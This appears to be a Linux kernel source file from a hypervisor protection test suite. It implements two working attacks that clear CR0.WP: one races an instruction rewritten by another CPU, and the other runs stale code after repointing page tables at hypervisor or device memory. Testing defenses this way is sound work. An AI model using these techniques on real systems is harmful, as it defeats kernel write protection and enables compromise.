// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on whoever decodes a refused instruction: the bytes change while it looks, or the
 * page tables name another page than the one that the CPU remembers and runs.
 */
#include <linux/delay.h>
#include <linux/err.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/special_insns.h>

#include "attack.h"
#include "execute.h"
#include "hypervisor.h"
#include "paging.h"

/*
 * mov %rdi, %cr0; ret; with the ModRM byte of RSI in its place the other argument is
 * written. It lies at the end of a page, the ret in the next one, which stays where it is.
 */
static const u8 put_cr0[] = { 0x0f, 0x22, 0xc7, 0xc3 };

#define PUT_CR0_AT (PAGE_SIZE - 3)
#define RETURN	   0xc3 /* in front of it, too */

#define MODRM_AT  2
#define MODRM_RDI 0xc7
#define MODRM_RSI 0xc6
#define LASTS	  (2 * HZ)
#define PAUSES	  20 /* between two changes: about as long as one round */

/* Two pages of code of our own, writable and executable. */
struct code {
	struct page *pages;
	u8 *va; /* of the instruction */
};

static int code_make(struct code *c)
{
	u8 *alias;

	c->pages = alloc_pages(GFP_KERNEL | __GFP_ZERO, 1);
	if (!c->pages)
		return -ENOMEM;
	memcpy(page_address(c->pages) + PUT_CR0_AT, put_cr0, sizeof(put_cr0));
	((u8 *)page_address(c->pages))[PUT_CR0_AT - 1] = RETURN;
	alias = paging_alias(page_to_pfn(c->pages), 2, PAGE_KERNEL_EXEC);
	if (!alias)
		return -ENOMEM;
	c->va = alias + PUT_CR0_AT;
	return 0;
}

static void code_free(struct code *c)
{
	if (c->va)
		vunmap(c->va - PUT_CR0_AT);
	if (c->pages)
		__free_pages(c->pages, 1);
}

static void get_cr0(void *value)
{
	*(u64 *)value = native_read_cr0();
}

static int look_cr0(struct attempt *t, u64 *is)
{
	return smp_call_function_single(t->cpu, get_cr0, is, 1);
}

static void pause(void)
{
	unsigned int i;

	for (i = 0; i < PAUSES; i++)
		cpu_relax();
}

static int flip_main(void *va)
{
	u8 *modrm = (u8 *)va + MODRM_AT;

	while (!kthread_should_stop()) {
		WRITE_ONCE(*modrm, MODRM_RSI);
		pause();
		cond_resched(); /* both sides may share a CPU */
		WRITE_ONCE(*modrm, MODRM_RDI);
		pause();
		cond_resched();
	}
	return 0;
}

/* Writes CR0 over and over, from a register with the good or with the bad value. True: WP was
 * off. */
static bool race_once(struct attempt *t, u8 *code)
{
	unsigned long flags;
	u64 is;

	local_irq_save(flags);
	t->cpu = smp_processor_id();
	t->was = native_read_cr0();
	t->wanted = t->was & ~X86_CR0_WP;
	execute_call(code, sizeof(put_cr0), t->was, t->wanted, NULL, NULL);
	is = native_read_cr0();
	if (is != t->was)
		asm volatile("movq %0, %%cr0" : : "r"(t->was) : "memory");
	local_irq_restore(flags);
	return !(is & X86_CR0_WP);
}

static enum attack_outcome race(struct attempt *t)
{
	unsigned int cpu = cpumask_last(cpu_online_mask);
	unsigned long rounds = 0, deadline;
	struct task_struct *flipper;
	struct code code = { 0 };
	bool done = false;
	int err = code_make(&code);

	flipper = err ? ERR_PTR(err)
		      : kthread_create_on_cpu(flip_main, code.va, cpu, "hf_flip/%u");
	if (!IS_ERR(flipper)) {
		wake_up_process(flipper);
		deadline = jiffies + LASTS;
		for (; time_before(jiffies, deadline) && !done; rounds++) {
			done = race_once(t, code.va);
			cond_resched();
		}
		kthread_stop(flipper);
	}
	code_free(&code);
	attack_note(t, "%lu rounds", rounds);
	return IS_ERR(flipper) ? ATTACK_ERROR : done ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

/*
 * The entry of the code's page now names another frame, but the CPU is not told: it goes on
 * running what it remembers, while whoever walks the page tables finds hypervisor memory, a
 * device, nothing.
 */
static bool run_stale(struct attempt *t, struct code *code, u64 frame)
{
	unsigned int level;
	u64 *leaf = paging_leaf(code->va, &level), entry, is;
	unsigned long flags;

	if (!leaf || level != PG_LEVEL_4K)
		return false;
	entry = READ_ONCE(*leaf);
	local_irq_save(flags);
	t->cpu = smp_processor_id();
	t->was = native_read_cr0();
	t->wanted = t->was & ~X86_CR0_WP;
	WRITE_ONCE(*leaf, entry & ~_PAGE_PRESENT);
	paging_flush_here(code->va);
	WRITE_ONCE(*leaf, entry);
	execute_call(code->va - 1, 1, 0, 0, NULL, NULL); /* remembers the code's own frame */
	WRITE_ONCE(*leaf, (entry & ~PTE_PFN_MASK) | frame << PAGE_SHIFT);
	t->trap = execute_call(code->va, sizeof(put_cr0), t->wanted, 0, NULL, NULL);
	is = native_read_cr0();
	if (is != t->was)
		asm volatile("movq %0, %%cr0" : : "r"(t->was) : "memory");
	WRITE_ONCE(*leaf, entry);
	paging_flush_here(code->va);
	local_irq_restore(flags);
	return is == t->wanted;
}

static enum attack_outcome stale(struct attempt *t)
{
	static const u64 elsewhere[] = { 0xa0, 0xfec00, 0xfee00, 1ull << 22, 1ull << 27 };
	struct hypervisor_memory memory;
	struct code code = { 0 };
	bool done = false;
	unsigned int i;

	if (code_make(&code) || hypervisor_find(&memory)) {
		code_free(&code);
		return ATTACK_ERROR;
	}
	for (i = 0; i < ARRAY_SIZE(elsewhere); i++)
		done |= run_stale(t, &code, elsewhere[i]);
	for (i = 0; i < memory.count; i++)
		done |= run_stale(t, &code, memory.run[i].pfn);
	code_free(&code);
	return done ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static const struct attack decode_attacks[] = {
	{
		.name = "wp-clear-race",
		.title = "clear CR0.WP by an instruction that another CPU keeps rewriting",
		.gives = "the kernel writes its read-only pages",
		.asset = "CR0",
		.control = ATTACK_BARE,
		.run = race,
		.look = look_cr0,
	},
	{
		.name = "wp-clear-stale",
		.title = "clear CR0.WP in a page that the page tables no longer name",
		.gives = "the kernel writes its read-only pages",
		.asset = "CR0",
		.control = ATTACK_PRELAUNCH,
		.run = stale,
		.look = look_cr0,
	},
};

const struct attack_table decode_table = { decode_attacks, ARRAY_SIZE(decode_attacks) };
